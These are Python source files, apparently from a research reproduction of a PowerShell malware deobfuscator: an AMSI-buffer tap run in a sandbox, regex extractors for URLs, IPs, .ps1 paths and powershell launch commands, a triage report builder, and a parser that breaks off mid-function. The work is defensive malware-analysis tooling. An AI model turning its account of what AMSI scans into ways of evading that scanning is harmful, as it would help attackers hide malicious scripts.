from repro.runtime.evaluator import Evaluator
from repro.runtime.host import SandboxHost
from repro.runtime.limits import ExecutionBudget
from repro.runtime.values import ScriptBlockValue, to_string


@dataclass
class AmsiReport:
    """Buffers AMSI would scan for one execution."""

    buffers: List[str] = field(default_factory=list)
    error: Optional[str] = None

    @property
    def final_buffer(self) -> Optional[str]:
        return self.buffers[-1] if self.buffers else None

    def would_match(self, needle: str) -> bool:
        """Would a literal AMSI signature fire on any scanned buffer?"""
        lowered = needle.lower()
        return any(lowered in buffer.lower() for buffer in self.buffers)


class _TapAndRun:
    """Overrides an invoker: record the buffer, then run it for real."""

    def __init__(self, report: AmsiReport, inner_name: str):
        self.report = report
        self.inner = lookup_cmdlet(inner_name)

    def __call__(self, ctx: CommandContext):
        candidate = None
        for value in ctx.arguments:
            if isinstance(value, (str, ScriptBlockValue)):
                candidate = value
                break
        if candidate is None and ctx.input_stream:
            tail = ctx.input_stream[-1]
            if isinstance(tail, (str, ScriptBlockValue)):
                candidate = tail
        if candidate is not None:
            text = (
                candidate.text()
                if isinstance(candidate, ScriptBlockValue)
                else to_string(candidate)
            )
            self.report.buffers.append(text)
        return self.inner(ctx)


def amsi_view(
    script: str,
    responses: Optional[dict] = None,
    step_limit: int = 200_000,
) -> AmsiReport:
    """Execute *script* and report every buffer AMSI would scan.

    The top-level script itself is always the first buffer (AMSI scans
    the initial submission too).
    """
    report = AmsiReport(buffers=[script])
    host = SandboxHost(responses=dict(responses or {}))
    evaluator = Evaluator(
        host=host,
        budget=ExecutionBudget(step_limit=step_limit),
        enforce_blocklist=False,
        continue_on_error=True,
    )
    evaluator.cmdlet_overrides["invoke-expression"] = _TapAndRun(
        report, "invoke-expression"
    )
    for shell in ("powershell", "powershell.exe", "pwsh", "pwsh.exe"):
        evaluator.cmdlet_overrides[shell] = _TapAndRun(report, "powershell")
    try:
        evaluator.run_script_text(script)
    except EvaluationError as exc:
        report.error = str(exc)
    except RecursionError as exc:  # pragma: no cover - defensive
        report.error = f"recursion: {exc}"
    return report
