"""Key-information extraction (paper Section IV-C2 / Fig 5).

The four key-information kinds the paper counts in deobfuscation output:

- ``.ps1`` file paths (malicious script paths),
- ``powershell`` commands (child-shell launches),
- URLs,
- IP addresses.
"""

import re
from dataclasses import dataclass, field
from typing import Set

_URL_RE = re.compile(
    r"(?:https?|ftp)://[\w.-]+(?::\d+)?(?:/[\w./?%&=+-]*)?",
    re.IGNORECASE,
)

_IP_RE = re.compile(
    r"(?<![\d.])((?:\d{1,3}\.){3}\d{1,3})(?![\d.])"
)

_PS1_RE = re.compile(
    r"[\w$%{}:\\/.~-]*[\w}-]\.ps1\b", re.IGNORECASE
)

_POWERSHELL_RE = re.compile(
    r"\b(?:powershell(?:\.exe)?|pwsh(?:\.exe)?)\b[^\r\n|;]*",
    re.IGNORECASE,
)


@dataclass
class KeyInfo:
    """The key information found in one script."""

    urls: Set[str] = field(default_factory=set)
    ips: Set[str] = field(default_factory=set)
    ps1_files: Set[str] = field(default_factory=set)
    powershell_commands: Set[str] = field(default_factory=set)

    @property
    def total(self) -> int:
        return (
            len(self.urls)
            + len(self.ips)
            + len(self.ps1_files)
            + len(self.powershell_commands)
        )

    def counts(self) -> dict:
        return {
            "urls": len(self.urls),
            "ips": len(self.ips),
            "ps1_files": len(self.ps1_files),
            "powershell_commands": len(self.powershell_commands),
        }

    def intersect(self, other: "KeyInfo") -> "KeyInfo":
        return KeyInfo(
            urls=self.urls & other.urls,
            ips=self.ips & other.ips,
            ps1_files=self.ps1_files & other.ps1_files,
            powershell_commands=(
                self.powershell_commands & other.powershell_commands
            ),
        )


def _valid_ip(candidate: str) -> bool:
    parts = candidate.split(".")
    if len(parts) != 4:
        return False
    numbers = [int(p) for p in parts]
    if any(n > 255 for n in numbers):
        return False
    # Version-number lookalikes: x.0.0.y with tiny octets are suspicious,
    # but the paper counts IPs syntactically; only reject all-zero.
    return candidate != "0.0.0.0"


def extract_key_info(script: str) -> KeyInfo:
    """Extract the four key-information kinds from script text."""
    urls = {m.group(0).rstrip(".,;)'\"") for m in _URL_RE.finditer(script)}
    ips = {
        m.group(1)
        for m in _IP_RE.finditer(script)
        if _valid_ip(m.group(1))
    }
    ps1_files = {
        m.group(0) for m in _PS1_RE.finditer(script)
    }
    powershell_commands = {
        m.group(0).strip()
        for m in _POWERSHELL_RE.finditer(script)
    }
    # URLs that end in .ps1 count in both classes, like the paper's
    # manual benchmark does; IPs inside URLs count as IPs too.
    return KeyInfo(
        urls=urls,
        ips=ips,
        ps1_files=ps1_files,
        powershell_commands=powershell_commands,
    )
