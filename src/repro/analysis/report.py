"""Triage reports: one artifact combining every measurement.

``build_report`` runs the full analyst loop over one sample — deobfuscate,
score before/after, extract key information, compare sandboxed behaviour —
and returns a structured report with a readable text rendering.  This is
the "downstream user" API the individual modules compose into.
"""

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.analysis.keyinfo import KeyInfo, extract_key_info
from repro.core.pipeline import DeobfuscationResult, Deobfuscator
from repro.obs import profile_lines
from repro.scoring import ObfuscationReport, score_script
from repro.verify import BehaviorReport, VerifyVerdict, observe_behavior


@dataclass
class TriageReport:
    """Everything an analyst wants to know about one script."""

    original: str
    deobfuscation: DeobfuscationResult
    score_before: ObfuscationReport
    score_after: ObfuscationReport
    key_info: KeyInfo
    behavior_original: BehaviorReport
    behavior_deobfuscated: BehaviorReport
    verify_verdict: Optional[VerifyVerdict] = None

    @property
    def behavior_consistent(self) -> bool:
        return (
            self.behavior_original.network_signature
            == self.behavior_deobfuscated.network_signature
        )

    @property
    def score_reduction(self) -> float:
        before = self.score_before.score
        if before == 0:
            return 0.0
        return max(0.0, before - self.score_after.score) / before

    def indicators(self) -> List[str]:
        """Flat, sorted indicator list (IOC feed shape)."""
        out = sorted(self.key_info.urls)
        out.extend(sorted(self.key_info.ips))
        out.extend(sorted(self.key_info.ps1_files))
        return out

    def render(self) -> str:
        lines = ["=== triage report ==="]
        lines.append(
            f"obfuscation score: {self.score_before.score} -> "
            f"{self.score_after.score} "
            f"({100 * self.score_reduction:.0f}% reduced)"
        )
        if self.score_before.techniques:
            lines.append(
                "techniques: "
                + ", ".join(sorted(self.score_before.techniques))
            )
        counts = self.key_info.counts()
        lines.append(
            "key info: "
            + ", ".join(f"{k}={v}" for k, v in counts.items())
        )
        for indicator in self.indicators():
            lines.append(f"  ioc: {indicator}")
        network = sorted(self.behavior_original.network_signature)
        if network:
            lines.append("network behaviour:")
            for kind, host in network:
                lines.append(f"  {kind} -> {host}")
        lines.append(
            "behaviour preserved by deobfuscation: "
            + ("yes" if self.behavior_consistent else "NO")
        )
        if self.verify_verdict is not None:
            verdict = self.verify_verdict
            line = f"semantic equivalence: {verdict.verdict}"
            if verdict.reason:
                line += f" ({verdict.reason})"
            lines.append(line)
            for entry in verdict.diff:
                lines.append(f"  {entry}")
        lines.append("--- pipeline telemetry ---")
        lines.append(
            f"run       : {self.deobfuscation.elapsed_seconds:.4f}s, "
            f"{self.deobfuscation.iterations} iteration(s), "
            f"{self.deobfuscation.layers_unwrapped} layer(s) unwrapped"
        )
        lines.extend(
            profile_lines(
                self.deobfuscation.stats,
                self.deobfuscation.elapsed_seconds,
            )
        )
        lines.append("--- deobfuscated script ---")
        lines.append(self.deobfuscation.script)
        return "\n".join(lines)


def build_report(
    script: str,
    tool: Optional[Deobfuscator] = None,
    responses: Optional[Dict[str, str]] = None,
    verify: bool = False,
) -> TriageReport:
    """Run the full triage loop over *script*.

    ``verify=True`` additionally runs the full differential
    semantics-preservation check (:mod:`repro.verify`) — stricter than
    the always-on network-signature comparison — and includes its
    verdict in the report.
    """
    tool = tool or Deobfuscator()
    deobfuscation = tool.deobfuscate(script)
    verdict = None
    if verify:
        from repro.verify import verify_result

        verdict = verify_result(deobfuscation, responses=responses)
    return TriageReport(
        original=script,
        deobfuscation=deobfuscation,
        score_before=score_script(script),
        score_after=score_script(deobfuscation.script),
        key_info=extract_key_info(deobfuscation.script),
        behavior_original=observe_behavior(script, responses=responses),
        behavior_deobfuscated=observe_behavior(
            deobfuscation.script, responses=responses
        ),
        verify_verdict=verdict,
    )
