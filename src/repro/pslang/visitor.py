"""Traversal helpers over the PowerShell AST.

The paper's algorithms are phrased in terms of a post-order walk with scope
bookkeeping (Algorithm 1).  These helpers centralize that logic so the
deobfuscator modules stay declarative.
"""

from typing import Callable, Iterator, List, Optional, Type

from repro.pslang import ast_nodes as N

# Node types whose entry changes scope depth, per Section III-B3.
SCOPE_NODE_TYPES = (
    N.NamedBlockAst,
    N.IfStatementAst,
    N.WhileStatementAst,
    N.ForStatementAst,
    N.ForEachStatementAst,
    N.StatementBlockAst,
)


def post_order(root: N.Ast) -> Iterator[N.Ast]:
    """Children-first traversal (the paper's reconstruction order)."""
    return root.walk_post_order()


def pre_order(root: N.Ast) -> Iterator[N.Ast]:
    return root.walk_pre_order()


def find_all(root: N.Ast, node_type: Type[N.Ast]) -> List[N.Ast]:
    return root.find_all(node_type)


def ancestors(node: N.Ast) -> Iterator[N.Ast]:
    """Yield parents from the immediate parent up to the root."""
    current = node.parent
    while current is not None:
        yield current
        current = current.parent


def enclosing(node: N.Ast, node_type) -> Optional[N.Ast]:
    """The nearest ancestor of the given type, or None."""
    for ancestor in ancestors(node):
        if isinstance(ancestor, node_type):
            return ancestor
    return None


def in_loop(node: N.Ast) -> bool:
    """True when *node* sits inside a loop statement body or header."""
    return enclosing(
        node, (N.WhileStatementAst, N.ForStatementAst,
               N.ForEachStatementAst, N.DoWhileStatementAst)
    ) is not None


def in_conditional(node: N.Ast) -> bool:
    """True when *node* sits inside an if/switch/try statement."""
    return enclosing(
        node, (N.IfStatementAst, N.SwitchStatementAst, N.TryStatementAst)
    ) is not None


def in_function(node: N.Ast) -> bool:
    return enclosing(node, N.FunctionDefinitionAst) is not None


def scope_path(node: N.Ast) -> tuple:
    """A hashable scope identifier: the chain of scope-changing ancestors.

    Two nodes share a scope iff they have the same scope path.  The paper
    records a scope *depth*; a path is strictly more precise and avoids
    collisions between sibling blocks at equal depth.
    """
    path = []
    for ancestor in ancestors(node):
        if isinstance(ancestor, SCOPE_NODE_TYPES + (N.ScriptBlockAst,
                                                    N.FunctionDefinitionAst)):
            path.append(id(ancestor))
    return tuple(reversed(path))


def scope_depth(node: N.Ast) -> int:
    """The paper's scope depth: number of scope nodes above *node*."""
    return len(scope_path(node))


def walk_with_callback(
    root: N.Ast, callback: Callable[[N.Ast], None]
) -> None:
    for node in post_order(root):
        callback(node)
