"""Token model mirroring ``System.Management.Automation.PSToken``.

The paper's token-parsing phase consumes exactly the attributes the real
``PSParser.Tokenize`` exposes: ``Content``, ``Start``, ``Length`` and
``Type``.  :class:`PSToken` reproduces those, plus ``text`` — the raw source
slice — because deobfuscation needs to know what the token looked like
before lexing normalized it (e.g. ``nE`w-oBjE`Ct`` lexes to content
``new-object`` but occupies 12 source characters).
"""

from dataclasses import dataclass, field
from enum import Enum


class PSTokenType(Enum):
    """Token categories, a superset-compatible copy of ``PSTokenType``."""

    UNKNOWN = "Unknown"
    COMMAND = "Command"
    COMMAND_PARAMETER = "CommandParameter"
    COMMAND_ARGUMENT = "CommandArgument"
    NUMBER = "Number"
    STRING = "String"
    VARIABLE = "Variable"
    MEMBER = "Member"
    LOOP_LABEL = "LoopLabel"
    ATTRIBUTE = "Attribute"
    TYPE = "Type"
    OPERATOR = "Operator"
    GROUP_START = "GroupStart"
    GROUP_END = "GroupEnd"
    KEYWORD = "Keyword"
    COMMENT = "Comment"
    STATEMENT_SEPARATOR = "StatementSeparator"
    NEWLINE = "NewLine"
    LINE_CONTINUATION = "LineContinuation"
    POSITION = "Position"


@dataclass(slots=True)
class PSToken:
    """One lexical unit of a PowerShell script.

    Attributes
    ----------
    type:
        The :class:`PSTokenType` category.
    content:
        The *cooked* content: backticks stripped from barewords, string
        tokens carry their decoded value, variables carry their name
        without the ``$`` sigil — matching ``PSToken.Content``.
    start:
        Offset of the first source character of the token.
    length:
        Number of source characters the token occupies.
    text:
        The raw source slice ``script[start:start+length]``.
    """

    type: PSTokenType
    content: str
    start: int
    length: int
    text: str = ""
    # String tokens remember their quoting so the deobfuscator can rebuild
    # them faithfully: one of "'", '"', "@'", '@"', or "" for barewords that
    # were classified as String (command arguments).
    quote: str = field(default="", compare=False)

    @property
    def end(self) -> int:
        return self.start + self.length

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (
            f"PSToken({self.type.value}, {self.content!r}, "
            f"start={self.start}, len={self.length})"
        )
