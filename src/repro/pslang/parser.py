"""Recursive-descent parser producing the PowerShell-style AST.

The parser consumes the token stream of :mod:`repro.pslang.lexer` and
builds :mod:`repro.pslang.ast_nodes` trees with byte-precise extents.  It
covers the language subset every obfuscation technique in the paper's
Table II exercises: pipelines, commands with parameters, the full operator
zoo (``-f``, ``-split``, ``-join``, ``-bxor``, ``-replace``...), casts,
member/index/method access, sub/array/paren expressions, hashtables,
script blocks, assignments, and the control-flow statements that matter
for variable tracing (``if``/``while``/``for``/``foreach``...).
"""

from typing import List, Optional, Tuple

from repro.pslang import ast_nodes as N
from repro.pslang import charsets
from repro.pslang.errors import ParseError
from repro.pslang.lexer import lex
from repro.pslang.tokens import PSToken, PSTokenType

# Operator families, loosest-binding first (see about_Operator_Precedence).
_LOGICAL = {"-and", "-or", "-xor"}
_BITWISE = {"-band", "-bor", "-bxor", "-shl", "-shr"}
_COMPARISON = (
    {"-" + op for op in charsets.COMPARISON_OPERATORS}
)
_ADDITIVE = {"+", "-"}
_MULTIPLICATIVE = {"*", "/", "%"}
_FORMAT = {"-f"}
_RANGE = {".."}
_UNARY = {"-", "+", "!", "-not", "-bnot", "-split", "-isplit", "-csplit", "-join", "++", "--"}
_ASSIGNMENT = {"=", "+=", "-=", "*=", "/=", "%="}

_PIPELINE_TERMINATORS = {"|", "&&", "||"}

_PRIMARY_STARTERS = {
    PSTokenType.STRING,
    PSTokenType.NUMBER,
    PSTokenType.VARIABLE,
    PSTokenType.TYPE,
    PSTokenType.GROUP_START,
}


def parse_number(text: str):
    """Parse a PowerShell numeric literal into a Python number."""
    cleaned = text.strip().lower().replace("`", "")
    sign = 1
    if cleaned and cleaned[0] in "+-":
        if cleaned[0] == "-":
            sign = -1
        cleaned = cleaned[1:]
    multiplier = 1
    for suffix, value in charsets.NUMERIC_MULTIPLIERS.items():
        if cleaned.endswith(suffix):
            multiplier = value
            cleaned = cleaned[: -len(suffix)]
            break
    else:
        if cleaned.endswith(("l", "d")):
            cleaned = cleaned[:-1]
    if cleaned.startswith("0x"):
        return sign * int(cleaned, 16) * multiplier
    if any(ch in cleaned for ch in ".e"):
        value = float(cleaned) * multiplier
        return sign * (int(value) if value.is_integer() and "e" not in cleaned else value)
    if cleaned == "":
        raise ParseError(f"bad number literal {text!r}")
    return sign * int(cleaned) * multiplier


class Parser:
    def __init__(self, source: str):
        self.source = source
        self.tokens = [
            t
            for t in lex(source)
            if t.type
            not in (PSTokenType.COMMENT, PSTokenType.LINE_CONTINUATION)
        ]
        self.pos = 0
        self.group_depth = 0
        self._last_paren_end = 0

    # -- token cursor --------------------------------------------------------

    def _peek(self, offset: int = 0) -> Optional[PSToken]:
        index = self.pos + offset
        self._skip_soft_newlines()
        index = self.pos + offset
        if index < len(self.tokens):
            return self.tokens[index]
        return None

    def _peek_raw(self) -> Optional[PSToken]:
        if self.pos < len(self.tokens):
            return self.tokens[self.pos]
        return None

    def _skip_soft_newlines(self) -> None:
        """Inside any grouping construct, newlines are insignificant."""
        if self.group_depth <= 0:
            return
        while (
            self.pos < len(self.tokens)
            and self.tokens[self.pos].type is PSTokenType.NEWLINE
        ):
            self.pos += 1

    def _next(self) -> PSToken:
        token = self._peek()
        if token is None:
            raise ParseError("unexpected end of input", len(self.source))
        self.pos += 1
        return token

    def _at_end(self) -> bool:
        return self._peek() is None

    def _expect_group_end(self, closer: str, opener_offset: int) -> PSToken:
        token = self._peek()
        if (
            token is None
            or token.type is not PSTokenType.GROUP_END
            or token.content != closer
        ):
            raise ParseError(
                f"expected {closer!r} to close group", opener_offset
            )
        return self._next()

    def _is_operator(self, token: Optional[PSToken], *contents: str) -> bool:
        return (
            token is not None
            and token.type is PSTokenType.OPERATOR
            and token.content in contents
        )

    # -- entry points ----------------------------------------------------------

    def parse(self) -> N.ScriptBlockAst:
        statements, param_block = self._parse_statement_list(top=True)
        end = len(self.source)
        root = N.ScriptBlockAst(
            start=0,
            end=end,
            statements=statements,
            param_block=param_block,
            source=self.source,
        )
        N.link_parents(root)
        return root

    # -- statements ------------------------------------------------------------

    def _parse_statement_list(
        self, closer: Optional[str] = None, top: bool = False
    ) -> Tuple[List[N.StatementAst], Optional[N.ParamBlockAst]]:
        statements: List[N.StatementAst] = []
        param_block: Optional[N.ParamBlockAst] = None
        while True:
            token = self._peek_raw() if self.group_depth == 0 else self._peek()
            if token is None:
                if closer is not None:
                    raise ParseError(f"missing closing {closer!r}")
                break
            if token.type in (
                PSTokenType.NEWLINE,
                PSTokenType.STATEMENT_SEPARATOR,
            ):
                self.pos += 1
                continue
            if (
                closer is not None
                and token.type is PSTokenType.GROUP_END
                and token.content == closer
            ):
                break
            if closer is not None and token.type is PSTokenType.GROUP_END:
                raise ParseError(
                    f"unbalanced group: got {token.content!r}, "
                    f"expected {closer!r}",
                    token.start,
                )
            if closer is None and token.type is PSTokenType.GROUP_END:
                raise ParseError(
                    f"unexpected {token.content!r}", token.start
                )
            if (
                token.type is PSTokenType.KEYWORD
                and token.content.lower() == "param"
                and not statements
                and param_block is None
            ):
                param_block = self._parse_param_block()
                continue
            statements.append(self._parse_statement())
        return statements, param_block

    def _parse_statement(self) -> N.StatementAst:
        token = self._peek()
        if token is None:
            raise ParseError("expected a statement", len(self.source))
        if token.type is PSTokenType.KEYWORD:
            return self._parse_keyword_statement(token)
        return self._parse_pipeline_statement()

    def _parse_keyword_statement(self, token: PSToken) -> N.StatementAst:
        keyword = token.content.lower()
        handlers = {
            "if": self._parse_if,
            "while": self._parse_while,
            "do": self._parse_do,
            "for": self._parse_for,
            "foreach": self._parse_foreach,
            "function": self._parse_function,
            "filter": self._parse_function,
            "workflow": self._parse_function,
            "return": self._parse_return,
            "throw": self._parse_throw,
            "exit": self._parse_exit,
            "break": self._parse_break,
            "continue": self._parse_continue,
            "try": self._parse_try,
            "switch": self._parse_switch,
        }
        handler = handlers.get(keyword)
        if handler is None:
            raise ParseError(
                f"unsupported keyword {token.content!r}", token.start
            )
        return handler()

    def _parse_condition_paren(self) -> N.StatementAst:
        token = self._peek()
        if not (
            token is not None
            and token.type is PSTokenType.GROUP_START
            and token.content == "("
        ):
            raise ParseError("expected '(' after keyword",
                             token.start if token else -1)
        self._next()
        self.group_depth += 1
        condition = self._parse_statement()
        self.group_depth -= 1
        closer = self._expect_group_end(")", token.start)
        self._last_paren_end = closer.end
        return condition

    def _parse_block(self) -> N.StatementBlockAst:
        token = self._peek()
        if not (
            token is not None
            and token.type is PSTokenType.GROUP_START
            and token.content == "{"
        ):
            raise ParseError("expected '{' block", token.start if token else -1)
        self._next()
        saved_depth = self.group_depth
        self.group_depth = 0
        try:
            statements, _ = self._parse_statement_list(closer="}")
        finally:
            self.group_depth = saved_depth
        closer = self._expect_group_end("}", token.start)
        return N.StatementBlockAst(
            start=token.start, end=closer.end, statements=statements
        )

    def _parse_if(self) -> N.IfStatementAst:
        first = self._next()  # 'if'
        clauses = []
        condition = self._parse_condition_paren()
        body = self._parse_block()
        clauses.append((condition, body))
        else_body = None
        end = body.end
        while True:
            token = self._peek()
            if token is not None and token.type is PSTokenType.KEYWORD:
                lowered = token.content.lower()
                if lowered == "elseif":
                    self._next()
                    cond = self._parse_condition_paren()
                    blk = self._parse_block()
                    clauses.append((cond, blk))
                    end = blk.end
                    continue
                if lowered == "else":
                    self._next()
                    else_body = self._parse_block()
                    end = else_body.end
            break
        return N.IfStatementAst(
            start=first.start, end=end, clauses=clauses, else_body=else_body
        )

    def _parse_while(self) -> N.WhileStatementAst:
        first = self._next()
        condition = self._parse_condition_paren()
        body = self._parse_block()
        return N.WhileStatementAst(
            start=first.start, end=body.end, condition=condition, body=body
        )

    def _parse_do(self) -> N.DoWhileStatementAst:
        first = self._next()
        body = self._parse_block()
        token = self._peek()
        until = False
        if token is not None and token.type is PSTokenType.KEYWORD:
            lowered = token.content.lower()
            if lowered in ("while", "until"):
                until = lowered == "until"
                self._next()
            else:
                raise ParseError("expected while/until after do", token.start)
        else:
            raise ParseError("expected while/until after do",
                             token.start if token else -1)
        condition = self._parse_condition_paren()
        return N.DoWhileStatementAst(
            start=first.start,
            end=self._last_paren_end,
            body=body,
            condition=condition,
            until=until,
        )

    def _parse_for(self) -> N.ForStatementAst:
        first = self._next()
        token = self._peek()
        if not (
            token is not None
            and token.type is PSTokenType.GROUP_START
            and token.content == "("
        ):
            raise ParseError("expected '(' after for", first.start)
        self._next()
        self.group_depth += 1

        def part(closing: str) -> Optional[N.StatementAst]:
            tok = self._peek()
            if tok is not None and (
                tok.type is PSTokenType.STATEMENT_SEPARATOR
                or (tok.type is PSTokenType.GROUP_END and tok.content == ")")
            ):
                return None
            return self._parse_statement()

        initializer = part(";")
        self._eat_separator()
        condition = part(";")
        self._eat_separator()
        iterator = part(")")
        self.group_depth -= 1
        self._expect_group_end(")", token.start)
        body = self._parse_block()
        return N.ForStatementAst(
            start=first.start,
            end=body.end,
            initializer=initializer,
            condition=condition,
            iterator=iterator,
            body=body,
        )

    def _eat_separator(self) -> None:
        token = self._peek()
        if token is not None and token.type is PSTokenType.STATEMENT_SEPARATOR:
            self._next()

    def _parse_foreach(self) -> N.ForEachStatementAst:
        first = self._next()
        token = self._peek()
        if not (
            token is not None
            and token.type is PSTokenType.GROUP_START
            and token.content == "("
        ):
            raise ParseError("expected '(' after foreach", first.start)
        self._next()
        self.group_depth += 1
        var_token = self._next()
        if var_token.type is not PSTokenType.VARIABLE:
            raise ParseError("expected variable in foreach", var_token.start)
        variable = N.VariableExpressionAst(
            start=var_token.start, end=var_token.end, name=var_token.content
        )
        in_token = self._next()
        if not (
            in_token.type is PSTokenType.KEYWORD
            and in_token.content.lower() == "in"
        ):
            raise ParseError("expected 'in' in foreach", in_token.start)
        expression = self._parse_statement()
        self.group_depth -= 1
        self._expect_group_end(")", token.start)
        body = self._parse_block()
        return N.ForEachStatementAst(
            start=first.start,
            end=body.end,
            variable=variable,
            expression=expression,
            body=body,
        )

    def _parse_function(self) -> N.FunctionDefinitionAst:
        first = self._next()
        is_filter = first.content.lower() == "filter"
        name_token = self._next()
        if name_token.type not in (
            PSTokenType.COMMAND_ARGUMENT,
            PSTokenType.COMMAND,
            PSTokenType.STRING,
        ):
            raise ParseError("expected function name", name_token.start)
        parameters: List[N.ParameterAst] = []
        token = self._peek()
        if (
            token is not None
            and token.type is PSTokenType.GROUP_START
            and token.content == "("
        ):
            self._next()
            self.group_depth += 1
            parameters = self._parse_parameter_list(")")
            self.group_depth -= 1
            self._expect_group_end(")", token.start)
            token = self._peek()
        if not (
            token is not None
            and token.type is PSTokenType.GROUP_START
            and token.content == "{"
        ):
            raise ParseError("expected function body", name_token.start)
        self._next()
        saved_depth = self.group_depth
        self.group_depth = 0
        try:
            statements, param_block = self._parse_statement_list(closer="}")
        finally:
            self.group_depth = saved_depth
        closer = self._expect_group_end("}", token.start)
        body = N.ScriptBlockAst(
            start=token.start,
            end=closer.end,
            statements=statements,
            param_block=param_block,
        )
        return N.FunctionDefinitionAst(
            start=first.start,
            end=closer.end,
            name=name_token.content,
            parameters=parameters,
            body=body,
            is_filter=is_filter,
        )

    def _parse_param_block(self) -> N.ParamBlockAst:
        first = self._next()  # 'param'
        token = self._peek()
        if not (
            token is not None
            and token.type is PSTokenType.GROUP_START
            and token.content == "("
        ):
            raise ParseError("expected '(' after param", first.start)
        self._next()
        self.group_depth += 1
        parameters = self._parse_parameter_list(")")
        self.group_depth -= 1
        closer = self._expect_group_end(")", token.start)
        return N.ParamBlockAst(
            start=first.start, end=closer.end, parameters=parameters
        )

    def _parse_parameter_list(self, closer: str) -> List[N.ParameterAst]:
        parameters: List[N.ParameterAst] = []
        while True:
            token = self._peek()
            if token is None:
                raise ParseError("unterminated parameter list")
            if token.type is PSTokenType.GROUP_END and token.content == closer:
                break
            if token.type is PSTokenType.TYPE:
                self._next()  # attribute/type constraint: skip
                continue
            if token.type is PSTokenType.VARIABLE:
                self._next()
                variable = N.VariableExpressionAst(
                    start=token.start, end=token.end, name=token.content
                )
                default = None
                end = token.end
                if self._is_operator(self._peek(), "="):
                    self._next()
                    default = self._parse_expression()
                    end = default.end
                parameters.append(
                    N.ParameterAst(
                        start=token.start,
                        end=end,
                        variable=variable,
                        default=default,
                    )
                )
                continue
            if self._is_operator(token, ","):
                self._next()
                continue
            raise ParseError(
                f"unexpected token in parameter list: {token.content!r}",
                token.start,
            )
        return parameters

    def _parse_return(self) -> N.ReturnStatementAst:
        first = self._next()
        pipeline = self._parse_optional_pipeline()
        end = pipeline.end if pipeline is not None else first.end
        return N.ReturnStatementAst(
            start=first.start, end=end, pipeline=pipeline
        )

    def _parse_throw(self) -> N.ThrowStatementAst:
        first = self._next()
        pipeline = self._parse_optional_pipeline()
        end = pipeline.end if pipeline is not None else first.end
        return N.ThrowStatementAst(
            start=first.start, end=end, pipeline=pipeline
        )

    def _parse_exit(self) -> N.ExitStatementAst:
        first = self._next()
        pipeline = self._parse_optional_pipeline()
        end = pipeline.end if pipeline is not None else first.end
        return N.ExitStatementAst(
            start=first.start, end=end, pipeline=pipeline
        )

    def _parse_optional_pipeline(self) -> Optional[N.StatementAst]:
        token = self._peek_raw() if self.group_depth == 0 else self._peek()
        if token is None or token.type in (
            PSTokenType.NEWLINE,
            PSTokenType.STATEMENT_SEPARATOR,
            PSTokenType.GROUP_END,
        ):
            return None
        return self._parse_pipeline_statement()

    def _parse_break(self) -> N.BreakStatementAst:
        first = self._next()
        return N.BreakStatementAst(start=first.start, end=first.end)

    def _parse_continue(self) -> N.ContinueStatementAst:
        first = self._next()
        return N.ContinueStatementAst(start=first.start, end=first.end)

    def _parse_try(self) -> N.TryStatementAst:
        first = self._next()
        body = self._parse_block()
        catches: List[N.StatementBlockAst] = []
        finally_body = None
        end = body.end
        while True:
            token = self._peek()
            if token is None or token.type is not PSTokenType.KEYWORD:
                break
            lowered = token.content.lower()
            if lowered == "catch":
                self._next()
                nxt = self._peek()
                while nxt is not None and nxt.type is PSTokenType.TYPE:
                    self._next()
                    nxt = self._peek()
                blk = self._parse_block()
                catches.append(blk)
                end = blk.end
            elif lowered == "finally":
                self._next()
                finally_body = self._parse_block()
                end = finally_body.end
            else:
                break
        return N.TryStatementAst(
            start=first.start,
            end=end,
            body=body,
            catches=catches,
            finally_body=finally_body,
        )

    def _parse_switch(self) -> N.SwitchStatementAst:
        first = self._next()
        # Skip switch flags like -regex.
        token = self._peek()
        while token is not None and token.type in (
            PSTokenType.COMMAND_PARAMETER,
            PSTokenType.OPERATOR,
        ) and token.type is not PSTokenType.GROUP_START:
            if token.type is PSTokenType.OPERATOR and token.content not in (
                "-regex", "-wildcard", "-exact", "-casesensitive",
            ):
                break
            self._next()
            token = self._peek()
        condition = self._parse_condition_paren()
        token = self._peek()
        if not (
            token is not None
            and token.type is PSTokenType.GROUP_START
            and token.content == "{"
        ):
            raise ParseError("expected '{' after switch", first.start)
        self._next()
        self.group_depth += 1
        clauses: List[Tuple[N.Ast, N.StatementBlockAst]] = []
        default = None
        while True:
            tok = self._peek()
            if tok is None:
                raise ParseError("unterminated switch", first.start)
            if tok.type is PSTokenType.GROUP_END and tok.content == "}":
                break
            if tok.type in (
                PSTokenType.NEWLINE,
                PSTokenType.STATEMENT_SEPARATOR,
            ):
                self.pos += 1
                continue
            if (
                tok.type in (PSTokenType.KEYWORD, PSTokenType.COMMAND,
                             PSTokenType.COMMAND_ARGUMENT)
                and tok.content.lower() == "default"
            ):
                self._next()
                default = self._parse_block()
                continue
            test = self._parse_expression()
            body = self._parse_block()
            clauses.append((test, body))
        self.group_depth -= 1
        closer = self._expect_group_end("}", first.start)
        return N.SwitchStatementAst(
            start=first.start,
            end=closer.end,
            condition=condition,
            clauses=clauses,
            default=default,
        )

    # -- pipelines and commands ---------------------------------------------------

    def _parse_pipeline_statement(self) -> N.StatementAst:
        token = self._peek()
        assert token is not None
        first_element: Optional[N.Ast] = None
        if token.type in _PRIMARY_STARTERS or (
            token.type is PSTokenType.OPERATOR
            and token.content in ("-", "+", "!", "-not", "-bnot",
                                  "-split", "-isplit", "-csplit", "-join",
                                  "++", "--", ",")
        ):
            expression = self._parse_expression()
            next_token = self._peek()
            if (
                next_token is not None
                and next_token.type is PSTokenType.OPERATOR
                and next_token.content in _ASSIGNMENT
            ):
                self._next()
                right = self._parse_statement()
                return N.AssignmentStatementAst(
                    start=expression.start,
                    end=right.end,
                    left=expression,
                    operator=next_token.content,
                    right=right,
                )
            first_element = N.CommandExpressionAst(
                start=expression.start,
                end=expression.end,
                expression=expression,
            )
        return self._parse_pipeline(first_element)

    def _parse_pipeline(self, first_element: Optional[N.Ast]) -> N.PipelineAst:
        elements: List[N.Ast] = []
        if first_element is not None:
            elements.append(first_element)
        else:
            elements.append(self._parse_pipeline_element())
        while True:
            token = self._peek()
            if self._is_operator(token, "|"):
                self._next()
                elements.append(self._parse_pipeline_element())
                continue
            if self._is_operator(token, "&&", "||"):
                # Pipeline chain: model as separate elements for simplicity.
                self._next()
                elements.append(self._parse_pipeline_element())
                continue
            break
        return N.PipelineAst(
            start=elements[0].start, end=elements[-1].end, elements=elements
        )

    def _parse_pipeline_element(self) -> N.Ast:
        token = self._peek()
        if token is None:
